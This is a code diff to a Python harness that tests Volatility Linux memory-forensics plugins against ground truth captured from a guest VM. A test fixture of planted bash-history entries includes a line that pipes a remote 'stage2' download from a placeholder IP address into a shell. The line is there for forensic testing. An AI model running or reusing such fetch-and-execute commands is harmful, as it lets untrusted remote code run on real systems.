@@ -5,7 +5,7 @@ from __future__ import annotations
 
 import json
 import socket
-from collections.abc import Callable, Set
+from collections.abc import Callable, Iterator, Set
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -19,8 +19,14 @@ TYPED = {"cd /tmp", "curl -s http://203.0.113.7/stage2 | sh", "was-typed-elsewhe
 
 PASSING_MODULES = {"tun", "veth", "dm_mod", "overlay", "xfs"}
 PASSING_FILES = "/busy/"
+PASSING_PROCESSES = {"avml", "cat", "init", "insmod", "mkdir", "rm", "rmmod", "sh", "sleep", "sync", "tell"}
+PASSING_PROCESSES |= {"xfsalloc", "xfs_mru_cache"}
 """What comes and goes while memory is copied (tools/dumpmaker/guest-acquire): it may stand in the truth of
-before and in that of after, and not have been there in between."""
+before and in that of after, and not have been there in between; or it lived in between only. Processes have
+numbers of that time then. Two are xfs' threads in 6.1."""
+
+FOLDERS = ("/www/", "/disk/", "/etc/", "/bin/")
+"""Where a guest lists all files and folders (tools/dumpmaker/guest-tell), but for `PASSING_FILES`."""
 
 Facts = Set[Any]
 
@@ -34,12 +40,14 @@ class Told:
         modules: names.
         sockets: local and other side, of TCP.
         files: paths.
+        newest: the number of the newest process.
     """
 
     processes: Facts
     modules: Facts
     sockets: Facts
     files: Facts
+    newest: int
 
     @classmethod
     def read(cls, folder: Path) -> Told:
@@ -50,7 +58,8 @@ class Told:
         sockets = {pair for path in tcp for pair in _sockets(path.read_text())}
         files = set((folder / "files").read_text().split())
         pids = {(int(row["pid"]), row["comm"]) for row in rows if not _passing(row["comm"])}
-        return cls(pids, names, sockets, files)
+        newest = int((folder / "loadavg").read_text().split()[-1])
+        return cls(pids, names, sockets, files, newest)
 
 
 def _passing(comm: str) -> bool:
@@ -79,7 +88,8 @@ class Answer:
         code: its exit code.
         found: how many of what both truths have are in its rows.
         there: how many both truths have.
-        more: its rows that neither truth has.
+        more: its rows that neither truth has, of what comes and goes by the second.
+        strange: its rows that neither truth has, and that nothing accounts for.
         lines: what was said.
         note: more about it.
     """
@@ -89,13 +99,36 @@ class Answer:
     found: int
     there: int
     more: int
+    strange: int
     lines: tuple[str, ...]
     note: str = ""
 
     @property
     def is_silent_fault(self) -> bool:
-        """Whether something is missing, and nothing says so; or there was no answer and no line."""
-        return self.found < self.there and not self.lines
+        """Whether something is missing, or never was, or there was no answer, and nothing says so."""
+        wrong = self.found < self.there or self.strange > 0 or self.code != 0
+        return (wrong and not self.lines) or any(line.startswith("Traceback") for line in self.lines)
+
+
+@dataclass(frozen=True)
+class Question:
+    """A plugin, and how its rows are held against what is known.
+
+    Attributes:
+        words: its name and options.
+        expected: what must be in its rows.
+        key: of a row, as `expected` has it.
+        known: what may be in its rows, besides what is expected.
+        is_told: whether the guest would have told of a row's subject, had it been there before or after.
+        passes: whether a row's key, which neither truth has, may be of what came and went meanwhile.
+    """
+
+    words: str
+    expected: Facts
+    key: Callable[[dict[str, Any]], Any]
+    known: Facts = frozenset()
+    is_told: Callable[[dict[str, Any]], bool] = lambda _: True
+    passes: Callable[[Any], bool] = lambda _: False
 
 
 class Checks:
@@ -114,23 +147,47 @@ class Checks:
         self._truth = truth.read(folder)
         self._is_copied = moments[0] != moments[1]
 
-    def all(self) -> list[Answer]:
-        """What each of them gave."""
-        return [
-            self._ask("linux.btfscan --all", self._btf, self._blobs),
-            self._ask("linux.btfisf", {self._truth["release"]}, lambda row: row["Release"]),
-            self._ask("linux.pslist", self._both("processes"), lambda row: (row["PID"], row["COMM"])),
-            self._ask("linux.lsmod", self._both("modules"), lambda row: row["Module Name"]),
-            self._ask("linux.bash", TYPED, lambda row: row["Command"]),
-            self._ask("linux.sockstat", self._both("sockets"), _socket_of, proto="TCP"),
-            self._ask("linux.pagecache.Files", self._both("files"), lambda row: row["FilePath"]),
-        ]
-
-    @property
-    def _btf(self) -> set[tuple[str, str]]:
-        """Name and SHA-256 of the BTF that the kernel had all the time."""
+    def all(self) -> Iterator[Answer]:
+        """What each of them gives, asked one after the other."""
+        btf = {(name, about["sha256"]) for name, about in self._truth["btf"].items()}
         kept = {"vmlinux", *self._both("modules")}
-        return {(name, about["sha256"]) for name, about in self._truth["btf"].items() if name in kept}
+        questions = [
+            Question(
+                "linux.btfscan --all",
+                {one for one in btf if one[0] in kept},
+                lambda row: (row["Name"] or "vmlinux", row["SHA256"]),
+                btf,
+                lambda row: row["Kind"] in ("kernel", "module") and row["State"] == "complete",
+            ),
+            Question("linux.btfisf", {self._truth["release"]}, lambda row: row["Release"]),
+            Question(
+                "linux.pslist",
+                self._both("processes"),
+                lambda row: (row["PID"], row["COMM"]),
+                self._either("processes"),
+                lambda row: not _passing(row["COMM"]),
+                self._lived_meanwhile,
+            ),
+            Question(
+                "linux.lsmod", self._both("modules"), lambda row: row["Module Name"], self._either("modules")
+            ),
+            Question("linux.bash", TYPED, lambda row: row["Command"]),
+            Question(
+                "linux.sockstat",
+                self._both("sockets"),
+                _socket_of,
+                self._either("sockets"),
+                lambda row: row["Proto"] == "TCP",
+            ),
+            Question(
+                "linux.pagecache.Files",
+                self._both("files"),
+                lambda row: row["FilePath"],
+                self._either("files"),
+                lambda row: row["FileType"] in ("REG", "DIR") and f"{row['FilePath']}/".startswith(FOLDERS),
+            ),
+        ]
+        return (self._ask(question) for question in questions)
 
     def _both(self, what: str) -> Facts:
         """What was there all the time."""
@@ -140,28 +197,36 @@ class Checks:
             return both - PASSING_MODULES
         return {one for one in both if what != "files" or not str(one).startswith(PASSING_FILES)}
 
-    def _either(self, plugin: str) -> Facts:
-        what = {"linux.pslist": "processes", "linux.lsmod": "modules"}.get(plugin)
-        return getattr(self.before, what) | getattr(self.after, what) if what else set()
+    def _either(self, what: str) -> Facts:
+        """What was there before or after."""
+        either: Facts = getattr(self.before, what) | getattr(self.after, what)
+        return either | PASSING_MODULES if self._is_copied and what == "modules" else either
 
-    def _blobs(self, row: dict[str, Any]) -> tuple[str, str]:
-        return row["Name"] or "vmlinux", row["SHA256"]
+    def _lived_meanwhile(self, process: tuple[int, str]) -> bool:
+        """Whether a process may have started after the first truth and ended before the second."""
+        pid, comm = process
+        return self.before.newest < pid <= self.after.newest and comm in PASSING_PROCESSES
 
-    def _ask(
-        self, words: str, expected: Facts, key: Callable[[dict[str, Any]], Any], proto: str = ""
-    ) -> Answer:
-        result = self._vol("-q", *words.split(), image=self._image, check=False)
+    def _ask(self, question: Question) -> Answer:
+        result = self._vol("-q", *question.words.split(), image=self._image, check=False)
         rows = _rows(result)
-        if proto:
-            rows = [row for row in rows if row["Proto"] == proto]
-        found = [key(row) for row in rows]
-        either = self._either(words)
-        more = sum(one not in either for one in found if not _passing(str(one[-1]))) if either else 0
+        keys = {question.key(row) for row in rows if question.is_told(row)}
+        more = keys - question.expected - question.known
+        passing = {key for key in more if question.passes(key)}
+        for key in sorted(more - passing, key=repr):
+            print(f"    {question.words}: neither truth has {key}", flush=True)
         lines = list(said(result.stderr, {self._folder: "…"}))
         lines += [line for line in result.stderr.splitlines() if line.startswith("Traceback")]
-        note = ", ".join(sorted({str(row["State"]) for row in rows})) if words == "linux.btfisf" else ""
+        isf = question.words == "linux.btfisf"
         return Answer(
-            words, result.returncode, len(expected & set(found)), len(expected), more, tuple(lines), note
+            question.words,
+            result.returncode,
+            len(question.expected & keys),
+            len(question.expected),
+            len(passing),
+            len(more) - len(passing),
+            tuple(lines),
+            ", ".join(sorted({str(row["State"]) for row in rows})) if isf else "",
         )
 
 
